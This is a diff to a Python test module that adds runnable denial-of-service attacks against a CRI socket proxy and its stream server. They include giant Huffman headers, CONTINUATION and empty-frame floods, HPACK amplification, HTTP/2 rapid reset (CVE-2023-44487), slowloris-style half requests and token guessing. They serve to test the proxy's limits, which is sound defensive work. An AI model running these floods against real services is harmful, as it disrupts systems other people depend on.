@@ -1,38 +1,251 @@
-"""Attacks on a running proxy, each a program of its own.
+"""Attacks on a proxy. Each is one that did harm before there were limits.
+
+An attack on the CRI socket is a function that misuses one connection of a client. As a program of
+its own an attack goes on until it is killed; it gives up its rights first if it needs none:
 
     python -m tests.proxy.attacks NAME WHERE
 
-It goes on until it is killed, and gives up its rights first if the attack needs none.
+WHERE is the path of the CRI socket; for attacks in ``ON_STREAMS`` the address of the streams.
 """
 
 from __future__ import annotations
 
+import itertools
 import os
 import resource
 import select
-import signal
 import socket
 import subprocess
 import sys
+import time
+from collections import deque
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
 from pathlib import Path
 from typing import Final
 
+from pycrictl._proto import cri_pb2
+from pycrictl.wire import hpack, http2, limits
+from tests.frames import units
+from tests.node.kubelet import IMAGE, RUNTIME
+from tests.proxy.sides import message, opened, request_headers, reset
+
+MIB: Final = 1024 * 1024
+VERSION: Final = RUNTIME + "Version"
+PULL: Final = IMAGE + "PullImage"
+PATIENCE_S: Final = 60.0
 NOBODY: Final = 65534
 HELD: Final = 600
-"""The connections that a flood holds: more than there are places."""
+"""The connections that a flood of the streams holds: more than there are places."""
+
+_HELLO: Final = http2.PREFACE + http2.settings()
+_HEADERS: Final = hpack.encode(request_headers(VERSION))
+_KEPT: Final = 4
+"""The connections that an attack on the CRI socket holds at once."""
 
 
-def become_nobody() -> None:
+class Attacker:
+    """A client that sends what it likes and reads all that comes.
+
+    Args:
+        where: the path of the proxy's socket.
+
+    Attributes:
+        codes: of the frames that end a call or the connection, by their kinds.
+        is_over: the proxy has ended the connection.
+        sent_bytes: what the proxy, or the kernel for it, took.
+    """
+
+    def __init__(self, where: str) -> None:
+        self._socket = socket.socket(socket.AF_UNIX)
+        self._socket.connect(where)
+        self._socket.setblocking(False)
+        self._unread = b""
+        self.codes: dict[int, list[int]] = {http2.RST_STREAM: [], http2.GOAWAY: []}
+        self.is_over = False
+        self.sent_bytes = 0
+        self.send(_HELLO)
+
+    def send(self, data: bytes) -> bool:
+        """Send it all, and return whether the connection is still there."""
+        until = time.monotonic() + PATIENCE_S
+        view = memoryview(data)
+        while view and not self.is_over and time.monotonic() < until:
+            try:
+                count = self._socket.send(view)
+                self.sent_bytes += count
+                view = view[count:]
+            except BlockingIOError:
+                self.read(wait_s=0.01)
+            except OSError:
+                self.read(wait_s=1.0)
+                self.is_over = True
+        self.read()
+        assert not view or self.is_over, "the proxy takes nothing"
+        return not self.is_over
+
+    def read(self, wait_s: float = 0.0) -> None:
+        """Take what has come, after a while if nothing has."""
+        self._socket.settimeout(wait_s)
+        with suppress(OSError):
+            while not self.is_over:
+                data = self._socket.recv(MIB)
+                self.is_over = not data
+                self._unread += data
+                self._socket.settimeout(0.0)
+        self._socket.settimeout(0.0)
+        pos = 0
+        for unit in units(self._unread):
+            pos += len(unit.raw)
+            if unit.kind in self.codes:
+                self.codes[unit.kind].append(int.from_bytes(unit.payload[-4:], "big"))
+        self._unread = self._unread[pos:]
+
+    def end(self) -> int | None:
+        """Wait until the proxy ends the connection; return the code of its GOAWAY."""
+        until = time.monotonic() + PATIENCE_S
+        while not self.is_over and time.monotonic() < until:
+            self.read(wait_s=0.1)
+        codes = self.codes[http2.GOAWAY]
+        return codes[-1] if codes else None
+
+    def close(self) -> None:
+        self._socket.close()
+
+
+# On the CRI socket
+
+
+def _block(stream_id: int, content: bytes) -> bytes:
+    return http2.header_frames(stream_id, _HEADERS + content, end_stream=True)
+
+
+def _field(size: int, first: int, value_bits: int) -> bytes:
+    """The beginning of a field ``x`` whose value has so many octets."""
+    length = bytearray()
+    hpack._put_integer(length, size, 0x7F, value_bits)
+    return bytes((first,)) + b"\x01x" + bytes(length)
+
+
+_HUFFMAN: Final = b"\x18\xc6\x31\x8c\x63" * (8 * MIB // 5)
+_LARGE_HEADER: Final = _block(1, _field(len(_HUFFMAN), 0, 0x80) + _HUFFMAN)
+
+
+def header_of_megabytes(attacker: Attacker) -> None:
+    """Send 8 MB of a Huffman-coded header, which took seconds to decode."""
+    attacker.send(_LARGE_HEADER)
+
+
+def continuations(attacker: Attacker) -> None:
+    """Let each frame make the header block be looked at again from its start."""
+    attacker.send(http2.frame(http2.HEADERS, 0, 1, _HEADERS))
+    empty = http2.frame(http2.CONTINUATION, 0, 1)
+    for _ in range(1_700):
+        if not attacker.send(empty * 1000):
+            break
+
+
+def blocks_that_grow(attacker: Attacker) -> None:
+    """Let each octet refer to 4 KiB in the table, which were written out for the runtime."""
+    attacker.send(_block(1, _field(4000, 0x40, 0) + b"v" * 4000))
+    for stream_id in range(3, 300, 2):
+        if not attacker.send(_block(stream_id, b"\xbe" * 3800)):
+            break
+
+
+def unending_bodies(attacker: Attacker, size: int = limits.OWN_BODY_BYTES) -> None:
+    """Begin ten pulls whose requests are that long, and end none of them."""
+    for stream_id in range(1, 21, 2):
+        prefix = b"\0" + size.to_bytes(4, "big")
+        attacker.send(opened(stream_id, PULL) + http2.frame(http2.DATA, 0, stream_id, prefix))
+        body = http2.frame(http2.DATA, 0, stream_id, bytes(limits.FRAME_BYTES))
+        for _ in range(min(size, 3 * MIB) // limits.FRAME_BYTES):
+            if not attacker.send(body):
+                return
+
+
+_PULL_REQUEST: Final = cri_pb2.PullImageRequest(
+    image=cri_pb2.ImageSpec(image="registry.example/app")
+).SerializeToString()
+
+
+def pulls_reset(attacker: Attacker) -> None:
+    """Open calls and reset them, as in CVE-2023-44487."""
+    for stream_id in range(1, 8 * limits.RESETS, 2):
+        call = opened(stream_id, PULL) + message(stream_id, _PULL_REQUEST) + reset(stream_id, 8)
+        if not attacker.send(call):
+            break
+
+
+def pulls_given_up(attacker: Attacker) -> None:
+    """Reset calls when they have begun to be answered, which is worth a line of the log."""
+    for stream_id in range(1, 8 * limits.RESETS, 2):
+        if not attacker.send(opened(stream_id, PULL) + message(stream_id, _PULL_REQUEST)):
+            break
+        time.sleep(0.001)
+        if not attacker.send(reset(stream_id, 8)):
+            break
+
+
+def events_reset(attacker: Attacker) -> None:
+    """Open streams of the runtime and reset them."""
+    path = RUNTIME + "GetContainerEvents"
+    for stream_id in range(1, 8 * limits.RESETS, 2):
+        if not attacker.send(opened(stream_id, path) + message(stream_id, b"")):
+            break
+        if not attacker.send(reset(stream_id, 8)):
+            break
+
+
+EMPTY_FRAMES: Final = (
+    http2.frame(http2.PING, 0, 0, bytes(8)),
+    http2.settings(),
+    http2.frame(http2.DATA, 0, 1),
+    http2.window_update(0, 1),
+    http2.rst_stream(1, 8),
+    http2.frame(http2.PRIORITY, 0, 1, bytes(5)),
+    http2.frame(0xF0, 0, 0, b"x"),
+)
+_kinds = itertools.cycle(EMPTY_FRAMES)
+
+
+def empty_frames(attacker: Attacker, frame: bytes | None = None) -> None:
+    """Send frames that carry nothing, of one kind."""
+    frame = frame or next(_kinds)
+    attacker.send(opened(1, PULL))
+    while attacker.send(frame * 1000):
+        pass
+
+
+def bytes_in_frames(attacker: Attacker, count: int = limits.OWN_BODY_BYTES - 1) -> None:
+    """Send the request of a call in frames of a byte each, which is in order."""
+    size = limits.OWN_BODY_BYTES
+    attacker.send(opened(1, PULL))
+    attacker.send(http2.frame(http2.DATA, 0, 1, b"\0" + size.to_bytes(4, "big")))
+    frames = http2.frame(http2.DATA, 0, 1, b"\0") * 1000
+    for _ in range(count // 1000):
+        if not attacker.send(frames):
+            break
+
+
+def garbage(attacker: Attacker) -> None:
+    """Break the protocol, and come back."""
+    attacker.send(b"GET / HTTP/1.1\r\n\r\n" * 10)
+    attacker.end()
+
+
+# On the stream server
+
+
+def _become_nobody() -> None:
     os.setgroups([])
     os.setgid(NOBODY)
     os.setuid(NOBODY)
 
 
-def half_requests(where: str) -> None:
-    """Hold requests whose heads never end, and open another for each that is closed."""
-    become_nobody()
+def _hold(where: str, request: bytes) -> None:
+    """Hold connections, and open another for each that is closed."""
+    _become_nobody()
     host, _, port = where.rpartition(":")
     poll = select.epoll()
     held: dict[int, socket.socket] = {}
@@ -42,7 +255,7 @@ def half_requests(where: str) -> None:
             sock.settimeout(1.0)
             try:
                 sock.connect((host, int(port)))
-                sock.send(b"GET /progress/x HTTP/1.1\r\nHost: ")
+                sock.send(request)
             except OSError:
                 sock.close()
                 break
@@ -54,13 +267,49 @@ def half_requests(where: str) -> None:
             sock.close()
 
 
-ATTACKS: Final[dict[str, Callable[[str], None]]] = {
-    function.__name__.replace("_", "-"): function for function in (half_requests,)
-}
+def half_requests(where: str) -> None:
+    """Never end the heads of requests."""
+    _hold(where, b"GET /progress/x HTTP/1.1\r\nHost: ")
+
+
+def silence(where: str) -> None:
+    """Say nothing at all."""
+    _hold(where, b"")
+
+
+def guesses(where: str) -> None:
+    """Try tokens."""
+    _hold(where, f"GET /copy/{'x' * 32} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode())
+
+
+def _repeated(misuse: Callable[[Attacker], object]) -> Callable[[str], None]:
+    """Misuse one connection after the other, and keep the latest open."""
+
+    def attack(where: str) -> None:
+        kept: deque[Attacker] = deque()
+        while True:
+            with suppress(OSError, AssertionError):
+                kept.append(Attacker(where))
+                misuse(kept[-1])
+            if len(kept) == _KEPT:
+                kept.popleft().close()
+
+    return attack
+
+
+def _named(*functions: Callable[..., object]) -> dict[str, Callable[..., object]]:
+    return {function.__name__.replace("_", "-"): function for function in functions}
+
+
+ON_STREAMS: Final = _named(half_requests, silence, guesses)
+ON_CRI: Final = _named(
+    *(header_of_megabytes, continuations, blocks_that_grow, unending_bodies, pulls_reset),
+    *(pulls_given_up, events_reset, empty_frames, bytes_in_frames, garbage),
+)
 
 
 @contextmanager
-def attack(name: str, where: str) -> Iterator[subprocess.Popen[bytes]]:
+def attack(name: str, where: str) -> Iterator[None]:
     """Run an attack beside what is done meanwhile."""
     with subprocess.Popen(
         [sys.executable, "-m", __name__, name, where],
@@ -68,7 +317,7 @@ def attack(name: str, where: str) -> Iterator[subprocess.Popen[bytes]]:
         stdin=subprocess.DEVNULL,
     ) as process:
         try:
-            yield process
+            yield
             assert process.poll() is None, "the attack has ended"
         finally:
             process.kill()
@@ -76,11 +325,13 @@ def attack(name: str, where: str) -> Iterator[subprocess.Popen[bytes]]:
 
 def main() -> None:
     """Attack."""
-    signal.signal(signal.SIGINT, signal.SIG_DFL)
     with suppress(ValueError):
         resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
     name, where = sys.argv[1:]
-    ATTACKS[name](where)
+    if name in ON_STREAMS:
+        ON_STREAMS[name](where)
+    else:
+        _repeated(ON_CRI[name])(where)
 
 
 if __name__ == "__main__":
